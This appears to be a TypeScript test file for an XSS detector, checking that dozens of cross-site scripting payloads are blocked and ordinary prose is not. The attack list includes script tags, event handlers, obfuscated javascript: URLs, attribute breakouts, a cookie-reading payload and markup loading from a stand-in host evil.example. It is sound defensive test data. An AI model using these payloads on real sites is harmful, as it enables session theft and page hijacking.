import assert from "node:assert/strict";
import { describe, it } from "node:test";
import type { Candidate } from "../src/detectors/types.js";
import { xssDetector } from "../src/detectors/xss/index.js";

/** The shield's medium sensitivity threshold: what a default deployment blocks. */
const BLOCKS = 0.7;

function candidate(value: string): Candidate {
  return { location: "query.q", kind: "query", raw: value, canonical: value, name: "q" };
}

function scoreOf(value: string): number {
  return xssDetector.detect(candidate(value))?.score ?? 0;
}

const ATTACKS: Record<string, readonly string[]> = {
  "script tags": [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></script>",
    "</script><script>alert(1)</script>",
    "<script\n>alert(1)",
  ],
  "event handlers": [
    "<svg/onload=alert(1)>",
    "<img src=x onerror=alert(1)>",
    "<x onxxx=1",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<x\tonclick=alert`1`>",
  ],
  "active elements": [
    "<iframe src=//evil.example>",
    "<object data=x.swf>",
    "<embed src=x.swf>",
    "<base href=//evil.example/>",
    "<math><mi>x</mi></math>",
    "<svg><animate>",
  ],
  "meta refresh and forms": [
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<form action="javascript:alert(1)"><button>go',
  ],
  "style injection": [
    "<style>@import 'x.css'</style>",
    '<div style="width:expression(alert(1))">',
    '<div style="-moz-binding:url(x.xml#x)">',
  ],
  "script URLs": [
    "<a href=javascript:alert(1)>x</a>",
    "javascript:alert(document.cookie)",
    "java\tscript:alert(1)",
    "\u0001javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
  ],
  "attribute breakouts": [
    '" onmouseover="alert(1)',
    "' autofocus onfocus='alert(1)",
    '"><img src=x onerror=alert(1)>',
    'x" onfocus=alert(1) autofocus x="',
  ],
  "JS-context breakouts": [
    "';alert(1)//",
    '";alert(1)//',
    "'-alert(1)-'",
    // biome-ignore lint/suspicious/noTemplateCurlyInString: a template-literal injection payload, on purpose
    "${alert(1)}",
    "\\u0061lert(1)",
    "'+document.cookie+'",
    "top['al'+'ert'](1)",
  ],
  "entity obfuscation": [
    "<a href=javascript&colon;alert&lpar;1&rpar;>x</a>",
    "<img src=&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58alert(1)>",
    '<a href="jav&#x09;ascript:alert(1)">x',
  ],
  "backticks instead of parentheses": ["<svg onload=alert`1`>", "alert`1`"],
  "markup that fetches a resource": [
    '<img src="http://evil.example/track.gif">',
    '<a href="http://evil.example">login here</a>',
    '<input name="password" type="password">',
  ],
};

const BENIGN = [
  "a < b",
  "5 > 3",
  "I <3 you",
  "Jane Doe <jane@example.com>",
  "x -> y => z",
  "<<<>>>",
  "the onload event fires after the page loads",
  "javascript: the good parts",
  "learn javascript: closures",
  "a JavaScript tutorial",
  "script writing workshop",
  "postscript: see you soon",
  "1 < 2 > 0",
  "see http://example.com/?a=1&b=2",
  "mailto:jane@example.com",
  "data: 3 rows",
  'O\'Brien said "hello"',
  "time: 10:30",
  "Tom & Jerry",
  "rock & roll (live)",
  "prompt delivery",
  "confirmation number 12345",
  "the alert was raised at 10am",
];

describe("xssDetector", () => {
  for (const [technique, payloads] of Object.entries(ATTACKS)) {
    it(`blocks ${technique}`, () => {
      for (const payload of payloads) assert.ok(scoreOf(payload) >= BLOCKS, `expected a finding for ${JSON.stringify(payload)}`);
    });
  }

  it("lets prose with angle brackets, colons and JS words through", () => {
    for (const value of BENIGN) assert.equal(xssDetector.detect(candidate(value)), undefined, `false positive on ${JSON.stringify(value)}`);
  });

  // `a<b and c>d` really is a `<b>` tag to a browser's tokenizer, so it is markup, not nothing; it must not block by default.
  it("scores prose that tokenizes as a tag, and unknown tag names, below the default threshold but above zero", () => {
    for (const value of ["if a<b and c>d", "use List<String> here", "returns Promise<Result>"]) {
      const score = scoreOf(value);
      assert.ok(score > 0 && score < BLOCKS, `${value}: ${score}`);
    }
  });

  it("scores a script tag higher than formatting markup", () => {
    assert.ok(scoreOf("<script>alert(1)</script>") > scoreOf("<b>bold</b>"));
  });

  it("blocks complete tags of known HTML and SVG elements", () => {
    for (const value of ["<b>bold</b>", "<br>", "</div>", "<h1>INJECTX</h1>", '<circle r="400"></circle>', "<br/><hr/>"])
      assert.ok(scoreOf(value) >= BLOCKS, value);
  });

  it("reports the class and short single-line evidence", () => {
    const finding = xssDetector.detect(candidate("<img\nsrc=x\nonerror=alert(1)>"));
    assert.ok(finding !== undefined);
    assert.equal(finding.class, "xss");
    assert.ok(finding.evidence.length <= 120, finding.evidence);
    assert.doesNotMatch(finding.evidence, /[\u0000-\u001f]/);
  });
});
